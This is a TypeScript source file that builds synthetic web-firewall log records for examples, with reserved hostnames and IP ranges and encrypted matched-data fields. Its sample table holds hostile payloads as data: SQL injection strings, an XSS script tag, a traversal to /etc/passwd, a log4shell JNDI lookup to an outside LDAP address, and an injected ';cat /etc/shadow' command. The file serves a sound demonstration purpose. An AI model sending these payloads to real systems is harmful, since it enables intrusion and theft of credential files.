// A log export of a web firewall, as example. Hosts and addresses are reserved for examples by RFC
// 2606 and RFC 5737. This chunk is loaded after the worker. It imports nothing: what the worker has
// too would be imported from it.

/** Attacks: rule, part of the request, text before the match, the match, text after it. */
const attacks = [
    ["sqli", "http.request.uri.query", "id=7", "' OR 1=1--", "&page=2"],
    ["sqli", "http.request.body.form.user", "", "admin'/*", ""],
    ["xss", "http.request.uri.query", "q=", "<script>alert(1)</script>", "&lang=en"],
    ["traversal", "http.request.uri.path", "/static/", "../../../../etc/passwd", ""],
    ["log4shell", "http.request.headers.user-agent", "Mozilla/5.0 ", "${jndi:ldap://203.0.113.9/a}",
        ""],
    ["shell", "http.request.body.raw", "file=a.txt", ";cat /etc/shadow", ""],
] as const;

const paths = ["/", "/login", "/search", "/api/v1/users", "/cart", "/wp-login.php",
    "/static/app.js"];
const countries = ["DE", "US", "FR", "BR", "IN", "NL", "JP"];
const actions = ["block", "block", "log", "managed_challenge"];
const start = Date.UTC(2026, 0, 15, 8);

/** Returns records as text, one per line, with payloads sealed by `seal`. */
export function exampleEvents(seal: (payload: Uint8Array) => string,
    count: number): Uint8Array<ArrayBuffer>
{
    return new TextEncoder().encode(
        Array.from({ length: count }, (_, i) => `${JSON.stringify(event(i, seal))}\n`).join(""),
    );
}

function event(i: number, seal: (payload: Uint8Array) => string) {
    // The steps share no factor with the lengths, so that the columns are mixed.
    const pick = <T>(from: readonly T[], step: number) =>
        from[(i * step + (i >> 4)) % from.length] as T;
    const [rule, part, before, content, after] = pick(attacks, 5);
    const payload = new TextEncoder().encode(
        JSON.stringify({ [part]: { before, content, after } }),
    );
    return {
        // Events come in waves.
        Datetime: new Date(start + (i + 20 * Math.sin(i / 25)) * 37_000).toISOString(),
        Action: pick(actions, 3),
        RuleID: rule,
        ClientRequestMethod: part.includes("body") ? "POST" : "GET",
        ClientRequestHost: i % 3 ? "shop.example.com" : "www.example.com",
        ClientRequestPath: pick(paths, 3),
        ClientIP: `198.51.100.${(i * 7) % 40}`,
        ClientCountry: pick(countries, 2),
        RayID: (0x8f00_0000_0000 + i * 7919).toString(16).padStart(16, "0"),
        Metadata: { encrypted_matched_data: seal(payload) },
    };
}
